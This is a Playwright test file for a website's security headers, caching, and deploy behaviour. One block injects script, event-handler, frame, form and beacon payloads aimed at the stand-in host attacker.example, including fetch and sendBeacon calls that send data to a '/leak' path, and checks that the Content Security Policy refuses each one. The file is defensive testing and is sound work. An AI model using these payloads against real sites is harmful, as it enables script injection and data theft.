import { spawn } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { paths } from "../../src/config/paths.ts";
import { waitUntilLive } from "../support/live.ts";
import { expect, test } from "../support/test.ts";

// The site as a host serves it. What stands in the files is proved in tests/built and tests/scripts.

const root = join(import.meta.dirname, "../..");
const built = (name: string) => readFileSync(join(root, "dist", name), "utf8");

test("every page, the unknown ones and the files come with the headers", {
  tag: "@journey",
}, async ({ request }) => {
  const addresses = [...Object.values(paths), "/no/such/page", "/robots.txt", "/rest/v1/"];
  for (const address of addresses) {
    const headers = (await request.get(address)).headers();
    expect(headers, address).toMatchObject({
      "content-security-policy": expect.stringContaining("; script-src 'self'; "),
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "strict-origin-when-cross-origin",
      "permissions-policy": expect.stringContaining("geolocation=()"),
      "cross-origin-opener-policy": "same-origin",
    });
    // http on this machine: neither may send the browser to https.
    expect(headers["strict-transport-security"], address).toBeUndefined();
    expect(headers["content-security-policy"], address).not.toContain("upgrade-insecure");
  }
});

test("the files for the hosts say the same, and https besides", async ({ request }) => {
  expect((await request.get("/licenses.txt")).headers()["content-type"]).toContain("text/plain");
  const sent = (await request.get("/")).headers()["content-security-policy"] ?? "missing";
  expect(built("_headers")).toContain(`${sent}; upgrade-insecure-requests`);
  expect(built("_headers")).toContain("max-age=63072000");
});

test("pages are asked about each time, hashed files never", async ({ page, request }) => {
  const assets: string[] = [];
  page.on("request", (asked) => {
    if (asked.url().includes("/assets/")) assets.push(asked.url());
  });
  const headers = (await page.goto("/"))?.headers();
  expect(headers?.["cache-control"]).toMatch(/no-cache|max-age=0, must-revalidate/);
  const again = await request.get("/", { headers: { "If-None-Match": headers?.etag ?? "" } });
  expect(again.status()).toBe(304);
  expect(assets.length).toBeGreaterThan(0);
  for (const asset of assets) {
    const headers = (await request.get(asset)).headers();
    expect(headers["cache-control"], asset).toBe("public, max-age=31536000, immutable");
  }
});

test.describe("an injected page", () => {
  // Everything in this test is refused, and each refusal is in the console.
  test.use({ allowedViolations: /./, allowedConsole: /Content Security Policy|Refused|violates/ });

  test("can load, run and send nothing", { tag: "@journey" }, async ({ page, context }) => {
    const left: string[] = [];
    await context.route("https://attacker.example/**", (route) => {
      left.push(route.request().url());
      return route.fulfill({ body: "globalThis.isPwned = true" });
    });
    await page.goto("/faq");
    const outcome = await page.evaluate(async () => {
      const evil = "https://attacker.example";
      const pwn = "globalThis.isPwned = true";
      const add = (markup: string) =>
        document.body.append(document.createRange().createContextualFragment(markup));
      const put = <Made extends HTMLElement>(element: Made) => {
        document.body.append(element);
        return element;
      };
      const attempts: [directive: string, attempt: () => unknown][] = [
        ["script-src-elem", () => add(`<script src="${evil}/x.js"></script>`)],
        ["script-src-elem", () => add(`<script>${pwn}</script>`)],
        [
          "script-src-elem",
          () =>
            put(Object.assign(document.createElement("a"), { href: `javascript:${pwn}` })).click(),
        ],
        ["script-src-attr", () => add(`<img src="/favicon.svg" onload="${pwn}">`)],
        ["img-src", () => add(`<img src="${evil}/?leak=1">`)],
        [
          "connect-src",
          () => fetch(`${evil}/leak`, { method: "POST", mode: "no-cors" }).catch(() => undefined),
        ],
        ["connect-src", () => navigator.sendBeacon(`${evil}/leak`, "x")],
        ["frame-src", () => add(`<iframe src="${evil}/"></iframe>`)],
        ["object-src", () => add(`<object data="${evil}/"></object>`)],
        ["base-uri", () => add(`<base href="${evil}/">`)],
        [
          "form-action",
          () => put(Object.assign(document.createElement("form"), { action: `${evil}/` })).submit(),
        ],
      ];
      for (const [directive, attempt] of attempts) {
        // One that is let through waits here until the test's time is over.
        await new Promise<void>((resolve) => {
          document.addEventListener("securitypolicyviolation", function heard(event) {
            if (event.effectiveDirective !== directive) return;
            document.removeEventListener("securitypolicyviolation", heard);
            resolve();
          });
          attempt();
        });
      }
      return Reflect.get(window, "isPwned");
    });
    expect(outcome).toBeUndefined();
    expect(left).toEqual([]);
  });

  test("cannot be framed by another site", async ({ page, baseURL, context }) => {
    await context.route("https://attacker.example/**", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe src="${baseURL}/contact"></iframe>`,
      }),
    );
    await page.goto("https://attacker.example/");
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    await expect.poll(() => frame?.url()).toBe("chrome-error://chromewebdata/");
  });
});

test("a slash at the end leads to the same page, without a warning", async ({ page }) => {
  await page.goto("/luxury-trailers/");
  await waitUntilLive(page);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  // The page has its own header instead of the site's.
  await expect(page.locator("header")).toHaveCount(1);
});

test.describe("after a deploy", () => {
  test.use({ allowedConsole: /Failed to load resource|error loading dynamically imported module/ });

  test("a page whose code is gone is loaded whole, once", { tag: "@journey" }, async ({ page }) => {
    let isGone = true;
    let loads = 0;
    await page.route(/\/assets\/about-page-[^/]+\.js$/, (route) =>
      isGone ? route.fulfill({ status: 404, body: "" }) : route.continue(),
    );
    await page.clock.install();
    await page.goto("/faq");
    page.on("load", () => {
      loads += 1;
      isGone = false;
    });
    await page.keyboard.press("Shift");
    await waitUntilLive(page);
    // A younger document would not be loaded again: what it lacks, the next one would lack too.
    await page.clock.fastForward("00:10");
    await page.getByRole("contentinfo").getByRole("link", { name: "About" }).click();
    await expect(page).toHaveURL(/\/about$/);
    await expect.poll(() => loads).toBe(1);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expect(page).toHaveTitle(/About/i);
    expect(loads).toBe(1);
  });
});

test("the launch check reads a running site as well", { tag: "@long" }, async ({ baseURL }) => {
  const program = join(root, "scripts/launch-check/launch-check.ts");
  const child = spawn("tsx", [program, baseURL ?? ""], { cwd: root });
  const [printed, [code]] = await Promise.all([text(child.stdout), once(child, "close")]);
  expect(code).toBe(1);
  expect(printed).toMatch(/Still a sample: phone/);
  expect(printed).toMatch(/No hosted project/);
  // Facts that the owner has not confirmed may be "missing" too: a header that is has a colon before it.
  expect(printed).not.toMatch(/A page answers|: missing|cached for|scripts of the home page/);
});
